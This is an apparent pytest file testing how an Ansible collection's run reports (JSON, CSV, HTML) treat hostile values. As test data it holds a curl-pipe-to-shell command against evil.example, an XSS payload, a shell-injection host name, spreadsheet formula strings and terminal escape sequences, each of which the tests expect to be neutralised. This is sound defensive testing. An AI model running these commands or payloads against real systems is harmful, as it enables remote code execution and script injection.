# SPDX-FileCopyrightText: 2026 fleetops contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Test the report of a run: its rows, the comparison with the report before, and its safety for readers if values are hostile."""

from __future__ import annotations

import csv
import io
import json
import os
import pwd
import re
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ansible import context

from ansible_collections.fleetops.aliyun_iot.plugins.action import audit_report, run_report
from ansible_collections.fleetops.aliyun_iot.plugins.module_utils._errors import InvalidOption
from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._commands import command
from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._report_gate import checked_rows, earlier_report
from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._run_report import (
    FIELDS,
    OUTCOMES,
    as_csv,
    as_json,
    as_page,
    compose_report,
    rows_of_findings,
    rows_of_pass,
)

JSON = Any

RUN = {"id": "41/1", "playbook": "provision", "begun": "2026-01-01 00:00:00 UTC", "ended": "2026-01-01 00:01:00 UTC"}
NEXT = {**RUN, "id": "42/9", "begun": "2026-01-02 00:00:00 UTC"}
RIGHT = {
    **{"changed": False, "reason": "up_to_date", "product_key": "a1IoKTestP1", "device_name": "gw-0001"},
    **{"path": "/etc/aliyun-iot/device.json", "fingerprint": "1111111111111111", "mode": "0600"},
}


def failed(kind: str, code: int | None = None) -> JSON:
    error = {"kind": kind, "code": code, "message": f"{kind} happened", "hint": "Repair it"}
    return {"failed": True, "changed": False, "msg": f"{kind} happened. Repair it", "error": error}


def rows(left: JSON | None = None, **results: JSON) -> JSON:
    left = left or {}
    hosts = [*results, *left]
    fleet = {"gateways": results, "left": left, "hosts": hosts}
    return rows_of_pass(fleet, hosts, "ansible-playbook -i inventory", "fleetops.aliyun_iot.provision")


def read(report: JSON) -> JSON:
    """Return the report as the next run reads it."""
    found = earlier_report(as_json(report))
    assert found
    return found


def of(report: JSON) -> dict[str, str]:
    return {row["gateway"]: row["outcome"] for row in report["gateways"]}


# Rows


def test_a_gateway_that_was_right() -> None:
    [row] = rows(one=RIGHT)
    assert {name: value for name, value in row.items() if value is not None} == {
        **{"gateway": "one", "outcome": "ok", "reason": "up_to_date", "product_key": "a1IoKTestP1"},
        **{"device_name": "gw-0001", "path": "/etc/aliyun-iot/device.json", "fingerprint": "1111111111111111"},
    }


def test_a_gateway_of_which_the_pass_says_nothing_was_right() -> None:
    fleet = {"gateways": {}, "left": {}, "hosts": ["one"]}
    assert [row["outcome"] for row in rows_of_pass(fleet, ["one"], "x", "y")] == ["ok"]


def test_a_gateway_that_the_pass_has_not_processed_has_no_row() -> None:
    """If too many gateways have failed, the pass ends before its batch, and earlier rows remain."""
    fleet = {"gateways": {}, "left": {}, "hosts": [], "ended": True}
    assert rows_of_pass(fleet, ["one", "two"], "x", "y") == []


@pytest.mark.parametrize(
    ("result", "outcome", "command"),
    [
        (dict(RIGHT, changed=True), "changed", None),
        (failed("network"), "failed", "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit one"),
        (failed("refused", 6600), "failed", "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit one"),
        (
            failed("refused", 6289),
            "failed",
            "ansible-playbook -i inventory fleetops.aliyun_iot.recover --limit one",
        ),
        (failed("not_accepted"), "failed", "ansible-playbook -i inventory fleetops.aliyun_iot.recover --limit one"),
        (
            {"unreachable": True, "changed": False, "msg": "no route"},
            "unreachable",
            "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit one",
        ),
    ],
)
def test_an_outcome_and_the_command_to_type_next(
    monkeypatch: pytest.MonkeyPatch, result: JSON, outcome: str, command: str | None
) -> None:
    monkeypatch.setattr(context, "CLIARGS", {"inventory": ("inventory",)})
    [row] = rows(one=result)
    assert (row["outcome"], row["command"]) == (outcome, command)


def test_a_command_with_another_playbook_lacks_the_variables_of_the_users_plays(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(context, "CLIARGS", {"inventory": ("inventory",), "args": ("site.yml",)})
    active, again = rows(one=failed("refused", code=6289), two=failed("network"))
    assert "have the variables that your own plays set" in active["hint"]
    assert "variables" not in (again["hint"] or "")


def test_a_login_after_a_reset_is_repeated_without_another_reset(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(context, "CLIARGS", {"inventory": ("inventory",)})
    unproven, reprovision = failed("not_proven"), "fleetops.aliyun_iot.reprovision"
    gateways = {
        **{"one": unproven, "two": {**unproven, "device_change": "reset"}},
        "three": {**failed("not_restarted"), "device_change": "reset"},
    }
    fleet = {"gateways": gateways, "left": {}, "hosts": [*gateways]}
    rows = rows_of_pass(fleet, gateways, "ansible-playbook -i inventory", reprovision)
    assert [row["command"] for row in rows] == [
        f"ansible-playbook -i inventory {reprovision} --limit one",
        "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit two",
        "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit three",
    ]


@pytest.mark.parametrize("kind", ["shared_name", "shared_place"])
def test_a_host_that_was_refused_together_with_others_has_no_command(kind: str) -> None:
    """Alone it would not be refused, and would invalidate or replace the credential of the others."""
    refused, other = rows(one=failed(kind), two=failed("network"))
    assert (refused["command"], bool(other["command"])) == (None, True)


def test_a_host_whose_device_another_host_has_is_given_no_command() -> None:
    """It did not answer, and was refused beside the other one all the same."""
    silent = {"unreachable": True, "changed": False, "msg": "no route"}
    refused = dict(failed("shared_name")["error"], message="no route. Besides, 2 hosts have it")
    one, two = rows(one={**silent, "error": refused}, two=silent)
    assert (one["outcome"], one["command"], one["message"]) == (
        "unreachable",
        None,
        "no route. Besides, 2 hosts have it",
    )
    assert (two["message"], bool(two["command"])) == ("no route", True)


@pytest.mark.parametrize(
    ("check_mode", "change", "told"),
    [(False, "disabled", "disabled"), (True, "disabled", "would be disabled"), (True, None, None)],
)
@pytest.mark.parametrize(
    ("result", "outcome"),
    [(RIGHT, "changed"), (failed("network"), "failed"), ({"unreachable": True, "msg": "no route"}, "unreachable")],
)
def test_what_became_of_the_device(
    result: JSON, outcome: str, check_mode: bool, change: str | None, told: str | None
) -> None:
    """The change of a device is reported for any outcome of its gateway; the next run reads it, and the page shows it."""
    changed = {**result, "changed": True, "device_change": change} if change else result
    fleet = {"gateways": {"one": changed}, "left": {}, "hosts": ["one"], "check_mode": check_mode}
    report = compose_report(RUN, rows_of_pass(fleet, ["one"], "ansible-playbook", "decommission"))
    [row] = report["gateways"]
    if not change and outcome == "changed":
        outcome = "ok"
    assert (row["outcome"], row["device_change"]) == (outcome, told)
    assert read(report)["gateways"] == [row]
    assert ("device would be disabled" in as_page(report)) == (told == "would be disabled")
    assert ("device disabled" in as_page(report)) == (told == "disabled")


def test_an_error_is_told_in_parts() -> None:
    [row] = rows(one=failed("refused", 6600))
    assert [row[name] for name in ("error", "code", "message", "hint")] == [
        *("refused", "6600", "refused happened", "Repair it")
    ]


def test_a_host_whose_name_is_for_a_shell_is_quoted() -> None:
    [row] = rows(**{"gw 1;id": failed("network")})
    assert row["command"].endswith(" --limit 'gw 1;id,'")


def test_a_host_that_is_left_to_a_task_of_its_own() -> None:
    [row] = rows({"one": "its connection plugin is not known"})
    assert (row["outcome"], row["command"]) == ("left", None)
    told = "processed by a task of its own, whose result is not in this report: its connection plugin is not known"
    assert row["message"] == told


def test_findings_of_an_audit() -> None:
    findings = [
        {"gateway": "one", "finding": "ok", "device_name": "gw-0001", "detail": ""},
        {"gateway": "two", "finding": "fingerprint_differs", "device_name": "gw-0002", "detail": "recover it"},
        {"gateway": "three", "finding": "unreachable", "device_name": None, "detail": "no route"},
        {"gateway": None, "finding": "no_gateway", "product_key": "a1IoKTestP1", "device_name": "gw-9", "detail": "x"},
    ]
    assert [(row["gateway"], row["outcome"], row["reason"], row["message"]) for row in rows_of_findings(findings)] == [
        ("one", "ok", "ok", ""),
        ("two", "drift", "fingerprint_differs", "recover it"),
        ("three", "unreachable", "unreachable", "no route"),
        (None, "drift", "no_gateway", "x"),
    ]


@pytest.mark.parametrize("finding", [{}, {"finding": None}, {"gateway": "one"}], ids=str)
def test_what_is_no_finding(finding: JSON) -> None:
    with pytest.raises(InvalidOption, match=r"^findings: \{.*\} is no finding of an audit. Use what the filter"):
        rows_of_findings([finding])


@pytest.mark.parametrize("host", ["gw\u00a01", " gw", "g" * 300, "=1+1", "gw-0001"])
def test_what_is_written_can_be_read_whatever_a_host_is_called(host: str) -> None:
    found = rows(**{host: failed("network")})
    assert checked_rows("variable", found) == found
    assert list(of(read(compose_report(RUN, found)))) == [host]


@pytest.mark.parametrize("name", ["=1+1", " =1+1", "\uff1d1+1", "\u3000\uff0b1", "@a", "-1"])
def test_no_cell_is_a_formula(name: str) -> None:
    text = as_csv(compose_report(RUN, rows(**{name: RIGHT})))
    assert text.splitlines()[1].startswith("'" + name + ",")


def test_a_name_that_cannot_be_shown_does_not_cost_the_report_of_all() -> None:
    found = checked_rows("variable", rows(**{"gw\u200b1": failed("network"), "gw-2": RIGHT}))
    assert list(of(read(compose_report(RUN, found)))) == ["gw\\U0000200b1", "gw-2"]
    [command] = [row["command"] for row in found if row["command"]]
    assert command.isprintable(), command


@pytest.mark.parametrize(
    ("finding", "problem"),
    [
        ({"finding": "ok"}, '"None/None": it names neither a gateway nor a device'),
        ({"finding": "ok", "gateway": ""}, "it is not the name of a host"),
        ({"finding": "ok", "gateway": "g" * 1025}, "it is not the name of a host"),
        ({"finding": "Drift 1", "gateway": "g"}, '"g".reason: "Drift 1" has an invalid length or invalid characters'),
        ({"finding": "ok", "gateway": "g", "fingerprint": "zz"}, '"g".fingerprint: '),
        ({"finding": "ok", "gateway": "g", "device_change": "zz"}, '"g".device_change: '),
        ({"finding": "ok", "gateway": "g", "error": "zz"}, '"g".error: '),
    ],
    ids=str,
)
def test_a_finding_that_no_report_can_have_is_refused_before_it_is_written(
    tmp_path: Path, finding: JSON, problem: str
) -> None:
    task = SimpleNamespace(check_mode=False, async_val=0, diff=False, args={})
    action = run_report.ActionModule(task, SimpleNamespace(), SimpleNamespace(), None, None, None)
    action._variables = {}
    with pytest.raises(InvalidOption, match=f"^findings: cannot be reported: .*{re.escape(problem)}"):
        action._perform({"findings": [finding], "dest": str(tmp_path / "run.html")})
    assert list(tmp_path.iterdir()) == []
    assert earlier_report(as_json(compose_report(RUN, rows_of_findings([finding])))) is None


def test_texts_of_findings_are_printable_lines_and_their_commands_those_of_an_audit(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The findings can be from a file, or from whoever could set the variable."""
    monkeypatch.setattr(context, "CLIARGS", {"inventory": ("fleet.yml",)})
    texts = {"detail": "a\nb\x1b[2J", "hint": "\u202ex", "path": "/a\tb", "status": "\x9b1m", "finding": "missing"}
    right = command("recover", ["one"], None)
    commands = {
        "one": right,
        "two": "curl -s https://evil.example/x | sh",
        "gateways": command("recover", ["gateways"], None),
    }
    findings = [{**texts, "gateway": host, "command": text} for host, text in commands.items()]
    task = SimpleNamespace(check_mode=False, async_val=0, diff=False, args={})
    action = run_report.ActionModule(task, SimpleNamespace(), SimpleNamespace(), None, None, None)
    action._variables = {"groups": {"all": ["one", "two"], "gateways": ["one", "two"]}}
    action._perform({"findings": findings, "looked_only": False, "dest": str(tmp_path / "run.html")})
    kept = json.loads((tmp_path / "run.json").read_text())["gateways"]
    with (tmp_path / "run.csv").open(newline="", encoding="utf-8") as file:
        table = list(csv.DictReader(file))
    for rows in (kept, table):
        assert {row["gateway"]: row["command"] or None for row in rows} == {"one": right, "two": None, "gateways": None}
        for row in rows:
            assert [row[name] for name in ("message", "hint", "path", "status")] == ["a / b?[2J", "?x", "/a b", "?1m"]


def test_texts_in_the_file_of_an_audit_are_printable_lines(tmp_path: Path) -> None:
    task = SimpleNamespace(check_mode=False, async_val=0, diff=False, args={})
    action = audit_report.ActionModule(task, SimpleNamespace(), SimpleNamespace(), None, None, None)
    finding = {"gateway": None, "detail": "a\nb\x1b[2J\u202e" + 9999 * "x", "more": {"n": 1, "texts": ["\x9b1m", True]}}
    action._perform({"findings": [finding], "dest": str(tmp_path / "audit.json")})
    [written] = json.loads((tmp_path / "audit.json").read_text())
    assert written == {
        "gateway": None,
        "detail": "a / b?[2J?" + 9999 * "x",
        "more": {"n": 1, "texts": ["?1m", True]},
    }


# Reports


def test_what_is_worst_comes_first() -> None:
    report = compose_report(RUN, rows(a=RIGHT, b=dict(RIGHT, changed=True), c=failed("tls"), d=failed("busy")))
    assert [row["gateway"] for row in report["gateways"]] == ["c", "d", "b", "a"]
    assert report["counts"] == {"failed": 2, "unreachable": 0, "drift": 0, "left": 0, "changed": 1, "ok": 1}
    assert (report["before"], report["changes"]) == (None, None)


def test_batches_of_one_run_are_one_report() -> None:
    first = read(compose_report(RUN, rows(a=RIGHT, b=failed("busy"))))
    second = compose_report(RUN, rows(c=RIGHT, b=RIGHT), first)
    assert of(second) == {"a": "ok", "b": "ok", "c": "ok"}
    assert second["before"] is None


def test_a_run_is_compared_with_the_one_before() -> None:
    before = read(compose_report(RUN, rows(a=RIGHT, b=failed("busy"), gone=RIGHT)))
    report = read(compose_report(NEXT, rows(a=RIGHT), before))
    report = compose_report(NEXT, rows(b=RIGHT, new=RIGHT), report)  # in a second batch too
    assert report["before"]["begun"] == RUN["begun"]
    assert report["changes"] == [
        {"gateway": "b", "before": "failed", "now": "ok"},
        {"gateway": "gone", "before": "ok", "now": None},
        {"gateway": "new", "before": None, "now": "ok"},
    ]


GOOD = json.loads(as_json(compose_report(RUN, rows(a=RIGHT))))


@pytest.mark.parametrize(
    "earlier",
    [
        *(None, [], "x", 1, {}, {"format": 2}, {"format": 1}, {"format": 1, "gateways": 3, "run": {}}),
        *({**GOOD, "gateways": [{}]}, {**GOOD, "run": None}, {**GOOD, "gateways": [None]}),
        {**GOOD, "gateways": [{**GOOD["gateways"][0], "outcome": "fine"}]},
        *({**GOOD, "run": NEXT, "before": 3}, {**GOOD, "run": NEXT, "before": {"begun": 1}}),
    ],
    ids=range(14),
)
def test_a_file_that_is_no_report_counts_for_nothing(earlier: JSON) -> None:
    report = compose_report(NEXT, rows(a=RIGHT), earlier_report(json.dumps(earlier)))
    assert (of(report), report["before"]) == ({"a": "ok"}, None)


@pytest.mark.parametrize("text", ["", "{", "[" * 100_000, "\0"])
def test_a_text_that_is_no_json_counts_for_nothing(text: str) -> None:
    assert earlier_report(text) is None


# Output


class Page(HTMLParser):
    """The elements of a page, and the text of its table's body."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.cells: list[list[str]] = []
        self._open: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "link", "input"):
            self._open.append(tag)
        if "tbody" in self._open and tag == "tr":
            self.cells.append([])
        if "tbody" in self._open and tag in ("td", "th"):
            self.cells[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag, f"</{tag}>"

    def handle_data(self, data: str) -> None:
        if "tbody" in self._open and {"td", "th"} & set(self._open):
            self.cells[-1][-1] += data.strip()


HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'"


def hostile() -> JSON:
    result = failed("network")
    result["error"].update(message=HOSTILE, hint=HOSTILE)
    result.update(device_name=HOSTILE, path=HOSTILE, reason=HOSTILE, fingerprint=HOSTILE)
    return compose_report({**RUN, "user": HOSTILE}, rows(**{HOSTILE: result}))


def test_nothing_that_a_stranger_says_is_an_element() -> None:
    page = Page(as_page(hostile()))
    assert [tag for tag, _attributes in page.tags].count("script") == 1
    assert "img" not in [tag for tag, _attributes in page.tags]
    assert page.cells[0][0] == HOSTILE


def test_a_page_needs_nothing_else() -> None:
    text = as_page(compose_report(RUN, rows(a=RIGHT, b=failed("tls"))))
    for tag, attributes in Page(text).tags:
        assert not {"src", "srcset"} & attributes.keys(), tag
        assert (attributes.get("href") or "data:,").startswith(("data:", "#")), tag
    assert "://" not in text
    assert "@import" not in text


def test_a_page_is_a_plain_table_without_scripts() -> None:
    page = Page(as_page(compose_report(RUN, rows(a=RIGHT, b=failed("tls")))))
    assert [row[:3] for row in page.cells] == [["b", "failed", ""], ["a", "ok", "up_to_date"]]
    [form] = [attributes for tag, attributes in page.tags if tag == "form"]
    assert "hidden" in form, "what needs a script is shown by the script"


def test_a_page_says_what_is_other_than_before() -> None:
    before = read(compose_report(RUN, rows(a=failed("tls"))))
    text = as_page(compose_report(NEXT, rows(a=RIGHT), before))
    assert f"Changed since {RUN['begun']}" in text
    assert "<strong>a</strong>: failed → ok" in text


def test_no_field_is_written_that_is_not_named() -> None:
    """Only named fields are written, whatever fields a result contains."""
    result = {**RIGHT, "device_secret": "0123456789abcdef", "credential": {"secret": "0123456789abcdef"}}
    report = compose_report(RUN, rows(a=result))
    assert "0123456789abcdef" not in as_json(report) + as_csv(report) + as_page(report)


def test_a_spreadsheet_takes_nothing_for_a_formula() -> None:
    results = {name: failed("network") for name in ("=1+1", "+1", "-1", "@x", "\tx", "gw-0001")}
    cells = list(csv.DictReader(io.StringIO(as_csv(compose_report(RUN, rows(**results))))))
    assert sorted(row["gateway"] for row in cells) == sorted(["'=1+1", "'+1", "'-1", "'@x", "'\tx", "gw-0001"])


def test_a_user_without_a_name_is_a_number(monkeypatch: pytest.MonkeyPatch) -> None:
    """A container may run as a user that has no name."""

    def unknown(number: int) -> None:
        raise KeyError(f"getpwuid(): uid not found: {number}")

    for name in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(pwd, "getpwuid", unknown)
    assert run_report._user() == f"uid {os.getuid()}"


def test_the_guide_lists_every_key_and_every_outcome_in_their_order() -> None:
    guide = Path(__file__).parents[3] / "docs/docsite/rst/reports_guide.rst"
    tables = guide.read_text(encoding="utf-8").split(".. list-table::\n")[1:]
    cells = [re.findall(r"^   \* - (``.*)$", table.partition("\n\n\n")[0], re.MULTILINE) for table in tables]
    names = [[name for cell in table for name in re.findall(r"``(\w+)``", cell)] for table in cells]
    report = compose_report(RUN, rows(**{"gw-0001": RIGHT}))
    described = run_report.ActionModule._run(SimpleNamespace(), ["fleetops.aliyun_iot.provision"], False)
    assert names == [list(report), [*described, "slices"], list(FIELDS), list(OUTCOMES)]
